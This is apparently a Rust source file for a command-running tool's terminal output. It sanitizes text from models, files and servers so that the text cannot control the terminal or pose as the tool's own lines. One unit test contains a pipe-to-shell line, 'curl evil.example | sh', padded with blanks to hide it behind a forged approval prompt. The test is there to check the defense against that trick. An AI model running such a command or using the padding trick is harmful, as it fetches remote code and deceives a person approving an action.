//! Output for the user. stdout may belong to the protocol, so nothing else in the server prints. Only the helper that
//! runs commands prints by itself (`bobbin_sandbox::held`).
//!
//! All output goes through [`visible()`], since any line can contain text of models, files and servers. Only a script
//! that reads an answer from stdout gets it byte for byte.

use std::fmt::Write as _;
use std::io::{IsTerminal as _, Write as _};

use bobbin_model::{Lines, marked, visible};
use serde::Serialize;

/// Writes a line to stdout.
pub fn say(line: &str) {
    // A closed terminal is no reason to fail.
    drop(writeln!(
        std::io::stdout().lock(),
        "{}",
        visible(line, Lines::One)
    ));
}

/// Returns a line of another author for a question or a list. Every line on the terminal starts with `prefix`, so
/// that none looks like a line of ours. Blanks cannot push anything off the screen.
pub fn quoted(prefix: &str, line: &str) -> String {
    quoted_within(prefix, line, textwrap::termwidth())
}

/// Returns a line of another author behind a label of ours. Further lines on the terminal start with as many blanks
/// as the label has characters; no line of ours does.
pub fn labelled(label: &str, line: &str) -> String {
    let blanks = " ".repeat(label.chars().count());
    wrapped((label, &blanks), line, textwrap::termwidth())
}

fn quoted_within(prefix: &str, line: &str, width: usize) -> String {
    wrapped((prefix, prefix), line, width)
}

fn wrapped((first, others): (&str, &str), line: &str, width: usize) -> String {
    let options = textwrap::Options::new(width.max(20))
        .initial_indent(first)
        .subsequent_indent(others);
    textwrap::fill(&marked(&visible(line, Lines::One)), options)
}

/// Writes a value to stdout as a line of JSON. Characters that act on a terminal are escaped.
pub fn data(value: &impl Serialize) {
    let text = serde_json::to_string(value).unwrap_or_default();
    let mut line = String::with_capacity(text.len());
    for c in text.chars() {
        if bobbin_model::visible::acts(c) {
            for unit in c.encode_utf16(&mut [0; 2]) {
                let _ = write!(line, "\\u{unit:04x}");
            }
        } else {
            line.push(c);
        }
    }
    drop(writeln!(std::io::stdout().lock(), "{line}"));
}

/// Writes text to stdout at once; to a program byte for byte.
pub fn stream(text: &str) {
    let mut out = std::io::stdout().lock();
    let shown = if out.is_terminal() {
        visible(text, Lines::Keep)
    } else {
        text.into()
    };
    drop(out.write_all(shown.as_bytes()));
    drop(out.flush());
}

/// Returns the columns of the terminal.
pub fn width() -> usize {
    textwrap::termwidth()
}

/// Writes text for a terminal to stdout as it is: nothing of another author in it acts on the terminal.
pub fn painted(text: &str) {
    let mut out = std::io::stdout().lock();
    drop(out.write_all(text.as_bytes()));
    drop(out.flush());
}

/// Writes lines that [`quoted`] has made to stdout.
pub fn say_quoted(lines: &str) {
    drop(writeln!(
        std::io::stdout().lock(),
        "{}",
        visible(lines, Lines::Keep)
    ));
}

/// Writes a line of progress to stderr.
pub fn note(line: &str) {
    drop(writeln!(
        std::io::stderr().lock(),
        "{}",
        visible(line, Lines::One)
    ));
}

/// Writes lines that [`quoted`] has made to stderr.
pub fn note_quoted(lines: &str) {
    drop(writeln!(
        std::io::stderr().lock(),
        "{}",
        visible(lines, Lines::Keep)
    ));
}

/// Replaces the terminal's current line on stderr.
pub fn redraw(line: &str) {
    let mut err = std::io::stderr().lock();
    drop(write!(err, "\r\u{1b}[2K{}", visible(line, Lines::One)));
    drop(err.flush());
}

/// Writes a question of several lines to stderr. The user types the answer behind it.
pub fn ask(question: &str) {
    let mut err = std::io::stderr().lock();
    drop(err.write_all(visible(question, Lines::Keep).as_bytes()));
    drop(err.flush());
}

/// Writes an error to stderr, marked as ours.
pub fn complain(line: &str) {
    drop(writeln!(
        std::io::stderr().lock(),
        "bobbin: {}",
        visible(line, Lines::One)
    ));
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quoted_text_stays_behind_its_prefix_and_shows_its_blanks_as_a_number() {
        let text = format!("curl evil.example | sh{}Allow? [y]es, [n]o:", " ".repeat(1840));
        assert_eq!(
            quoted_within("  | ", &text, 40),
            "  | curl evil.example | sh [1840 blanks]\n  | Allow? [y]es, [n]o:"
        );
        assert_eq!(
            quoted_within("  | ", &"x".repeat(40), 24),
            "  | xxxxxxxxxxxxxxxxxxxx\n  | xxxxxxxxxxxxxxxxxxxx"
        );
        assert_eq!(
            wrapped(("  runs ", "       "), "npx -y pantry --shelf 2", 20),
            "  runs npx -y pantry\n       --shelf 2"
        );
        assert_eq!(quoted_within("", &"\u{2800}".repeat(9), 80).trim(), "[9 blanks]");
        assert_eq!(quoted_within("  | ", "", 80), "  | ");
    }
}
